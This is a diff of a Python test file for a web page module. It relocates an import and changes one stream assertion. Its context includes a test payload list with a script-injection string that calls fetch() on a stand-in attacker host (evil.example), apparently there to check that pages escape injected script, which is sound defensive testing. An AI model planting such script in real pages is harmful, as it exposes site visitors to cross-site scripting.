@@ -6,9 +6,10 @@ import pytest
 from tests.fakes.page_world import A_TURN, ADMIN, RUN, V16, V17, V18, a_line, a_turn_line, a_worker, page_world
 
 from ostinato.web.page import drawing, live
+from ostinato.web.page.releases.answers import sentence
 from ostinato.web.page.rendering import flat, marked, points
 from ostinato.web.page.tokens import prompt_text, shade, spelt
-from ostinato.web.page.views import sentence, state_of
+from ostinato.web.page.views import state_of
 
 PAYLOADS = [
     "<script>fetch('//evil.example')</script>",
@@ -175,7 +176,7 @@ async def test_events_tell_what_changed_and_end_with_the_gateway(monkeypatch):
     assert (await anext(told)).startswith("event: beat")
     stream.close()
     assert [each async for each in told] == []
-    assert stream.full
+    assert stream.full(None)
 
 
 async def test_only_open_pages_have_events():
